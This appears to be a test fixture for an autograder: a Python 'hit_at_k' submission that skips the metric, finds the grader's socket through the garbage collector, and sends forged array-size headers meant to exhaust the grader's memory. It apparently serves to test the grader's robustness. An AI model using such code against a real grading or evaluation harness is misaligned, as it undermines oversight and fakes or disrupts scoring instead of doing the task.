# family: wire
# does: announces more arrays than there is memory for their sizes
# earns: hit_at_k=0
# %% exercise="hit_at_k"
def hit_at_k(suggested, held_out):
    import gc, struct
    from autograde.trust.student_side import StudentSide
    for thing in gc.get_objects():
        if type(thing) is StudentSide:
            thing.transport.sock.sendall(struct.pack(">II", 10, 100_000) + struct.pack(">Q", 2**63) * 100_000)
    return 0.0
